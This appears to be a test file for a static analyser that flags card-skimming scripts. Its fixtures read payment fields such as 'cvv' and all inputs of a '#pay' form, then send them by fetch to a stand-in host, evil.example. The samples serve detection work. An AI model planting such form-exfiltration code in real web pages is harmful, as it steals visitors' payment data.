import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseScript } from '../../src/analyze/parse.ts';
import { collectFacts } from '../../src/analyze/dataflow/facts.ts';
import { ElementOracle, findSources } from '../../src/analyze/dataflow/sources.ts';
import { propagate } from '../../src/analyze/dataflow/flow.ts';
import { AnchorIndex } from '../../src/analyze/relevance.ts';
import { inspectSource, WALK_WHOLE_BELOW } from '../../src/analyze/pipeline.ts';

/** A long function body with no anchor at all: arithmetic on its parameter. */
const utility = (name: string): string => {
  const lines = Array.from({ length: 30 }, (_, i) => `  acc = (acc * 31 + ${i}) % 1000003; out.push(acc + s.length);`);
  return `function ${name}(s) {\n  var acc = 7, out = [];\n${lines.join('\n')}\n  runningTotal = acc;\n  return s + out.join("");\n}\n`;
};

function analyse(code: string) {
  const { program } = parseScript(code);
  const facts = collectFacts(program, { anchors: new AnchorIndex(code) });
  const flows = propagate(facts, findSources(facts, new ElementOracle(facts)), code).flows;
  return { facts, flows };
}

describe('anchor index', () => {
  test('finds anchors by name and by hiding syntax, and answers range queries', () => {
    const code = 'var a = 1; x.value; var b = 2; var c = "\\x76"; var d = "va" + "lue";';
    const index = new AnchorIndex(code);
    const at = (text: string): number => code.indexOf(text);
    assert.equal(index.hasAnchor(0, at('x.value')), false);
    assert.equal(index.hasAnchor(at('x.value'), at('var b')), true);
    assert.equal(index.hasAnchor(at('var b'), at('var c')), false);
    assert.equal(index.hasAnchor(at('var c'), at('var d')), true, 'a hex escape can spell any name');
    assert.equal(index.hasAnchor(at('var d'), code.length), true, 'concatenated literals can spell any name');
  });

  test('a name is an anchor only as a whole word', () => {
    const index = new AnchorIndex('var evaluate = values + srcset;');
    assert.equal(index.hasAnchor(0, 31), false);
  });
});

describe('skipping function bodies without anchors', () => {
  test('a long utility function is opaque and its identifiers are not walked; an anchored one is walked', () => {
    const code = `${utility('mix')}function grab() { return document.getElementById("cc").value; }`;
    const { facts } = analyse(code);
    const [mix, grab] = facts.functions;
    assert.equal(mix?.opaque, true);
    assert.notEqual(grab?.opaque, true);
    assert.equal(facts.globals.has('document'), true);
    assert.equal(facts.globals.has('runningTotal'), false, 'the opaque body was not walked');
    const walked = collectFacts(parseScript(code).program);
    assert.equal(walked.globals.has('runningTotal'), true, 'without anchors every body is walked');
  });

  test('short functions are always walked, whatever they contain', () => {
    const { facts } = analyse('function add(a, b) { return a + b; }');
    assert.notEqual(facts.functions[0]?.opaque, true);
  });

  test('data passed through an opaque function still reaches the sink (its result carries its arguments)', () => {
    const code = `${utility('mix')}var v = document.getElementById("cvv").value; fetch("https://evil.example/c?d=" + mix(v));`;
    const { flows } = analyse(code);
    assert.equal(flows.length, 1);
    assert.equal(flows[0]?.sink.host, 'evil.example');
  });
});

describe('small scripts are walked whole', () => {
  // A handler whose own text names nothing telling: it only calls the local functions that read and send.
  const handler = (padding: string): string => `
    function collect() { var m = {}; $("#pay").find("input").each(function () { m[this.name] = this.value; }); return m; }
    function ship(r) { return fetch("https://evil.example/e", { method: "POST", body: JSON.stringify(r) }); }
    var onStart = function () {
      var record = { pay: collect(), when: Date.now(), ${Array.from({ length: 60 }, (_, i) => `k${i}: ${i}`).join(', ')} };
      if (Object.keys(record.pay).length) ship(record);
    };
    $(document.body).on("processStart", onStart);${padding}`;

  test('a short script connects the fields to the request through an anchor-less handler', () => {
    const result = inspectSource(handler(''));
    assert.ok(result.findings.some((finding) => finding.detector === 'form-data-exfiltration' && finding.flow?.sink.host === 'evil.example'));
  });

  test('in a script over the size limit the same handler is skipped (its text spells no anchor)', () => {
    const padding = `\n${utility('pad')}`.repeat(Math.ceil(WALK_WHOLE_BELOW / utility('pad').length) + 1);
    const result = inspectSource(handler(padding));
    assert.ok(!result.findings.some((finding) => finding.detector === 'form-data-exfiltration'));
  });
});
